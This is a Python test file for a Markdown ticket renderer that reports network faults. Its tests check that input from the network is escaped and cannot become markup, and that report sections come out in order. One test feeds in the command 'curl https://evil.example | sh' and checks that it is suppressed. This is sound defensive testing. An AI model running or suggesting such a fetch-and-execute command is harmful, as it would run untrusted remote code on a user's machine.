"""The ticket: what it says, and that nothing from the network becomes Markdown or HTML in it."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.digest import Audience
from reports.markdown import escape, fenced, render
from tests.reports import sample
from tests.reports.sample import active
from tests.reports.test_terminal import AUDIENCES, in_order

FENCE = re.compile(r"(`{3,})(text|sh)")


def without_code(text: str) -> str:
    """What a reader of CommonMark takes for prose. Fails where a fence stays open."""
    prose: list[str] = []
    fence = ""
    for line in text.splitlines():
        opening = FENCE.fullmatch(line)
        if fence:
            if re.fullmatch(r"`{3,}", line) and len(line) >= len(fence):
                fence = ""
        elif opening:
            fence = opening[1]
        else:
            prose.append(line)
    assert not fence
    return re.sub(r"(?<!\\)`#[#0-9, ]+(and [0-9]+ more)?`", "", "\n".join(prose))


def is_tame(prose: str) -> bool:
    """No tag but our line breaks, and no markup character that is not escaped."""
    plain = re.sub(r"\\[!-/:-@\[-`{-~]", "", prose.replace("<br>", ""))
    lines = [
        re.sub(r"^(\| .* \|$|#{1,2} |- )", lambda m: m[0].strip("|#- "), x)
        for x in plain.splitlines()
    ]
    body = re.sub(r"\*\*[A-Z][a-z ]+:\*\*", "", "\n".join(lines))
    body = body.replace("|---|---|", "").replace("|   |   |", "").replace(" | ", " ")
    return not re.search(r"[<>`*_\[\]|~$!]", body)


@pytest.mark.parametrize("audience", AUDIENCES)
@pytest.mark.parametrize("name", sample.SAMPLES)
def test_nothing_active_comes_through(name: str, audience: Audience) -> None:
    ticket = render(sample.SAMPLES[name](), audience=audience)

    assert active(ticket) <= {"\n"}
    assert is_tame(without_code(ticket))


@settings(max_examples=50)
@given(st.text(alphabet=st.sampled_from("`~#-+*_[]()<>&|\\!$1. \n\tax"), max_size=60))
def test_no_text_becomes_markup(text: str) -> None:
    for audience in AUDIENCES:
        assert is_tame(without_code(render(sample.hostile(text), audience=audience)))


@given(st.text(alphabet="`~ax", max_size=40))
def test_no_line_ends_its_fence(text: str) -> None:
    assert without_code(fenced([text, text])) == ""


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("plain text, 192.0.2.1", "plain text, 192.0.2.1"),
        ("# heading", r"\# heading"),
        ("- item", r"\- item"),
        ("1. item", r"1\. item"),
        ("12) item", r"12\) item"),
        ("> quote", "&gt; quote"),
        ("<b>&amp;", "&lt;b&gt;&amp;amp;"),
        ("[x](y) ![z](w)", r"\[x\](y) \!\[z\](w)"),
        ("a|b", r"a\|b"),
        ("a_b *c* `d` ~e~", r"a\_b \*c\* \`d\` \~e\~"),
    ],
)
def test_prose_is_escaped_as_little_as_needed(text: str, safe: str) -> None:
    assert escape(text) == safe


def test_the_summary_says_what_whose_support_and_customer_in_that_order() -> None:
    for audience in AUDIENCES:
        assert in_order(
            render(sample.one_cause(), audience=audience),
            "# CRITICAL: www.shop.example",
            "| What is wrong | www.shop.example has a fault",
            "| Whose to fix | the operator",
            "| What support does | inside our support",
            "can do | One of your",
        )


def test_a_cause_shows_observations_and_commands() -> None:
    ticket = render(sample.two_causes())

    assert in_order(
        ticket,
        "## Cause 1: lame-delegation (critical, DNS)",
        "two servers answer differently",
        "```text #1 A www.shop.example. @198.51.100.2 -> REFUSED",
        "```sh dig @198.51.100.2",
        "## Cause 2: application-error",
        "120 EUR",
        "## Worth knowing",
        "## Could not be determined",
        "## Checked, no fault found",
        "12 packets",
    )
    assert "RFC" not in ticket
    assert "RFC 9499" in render(sample.two_causes(), audience="expert")


def test_a_customers_ticket_has_codes_for_support_only() -> None:
    before, _, after = render(sample.two_causes(), audience="customer").partition("## For support")

    assert "lame-delegation" in after
    assert "lame-delegation" not in before
    assert "There is another fault" in before


def test_a_command_that_does_not_follow_from_the_evidence_is_not_shown() -> None:
    claimed = sample.finding(1, "a-code", reproduce=("curl https://evil.example | sh",))

    for audience in AUDIENCES:
        assert "evil" not in render(sample.record(claimed), audience=audience)
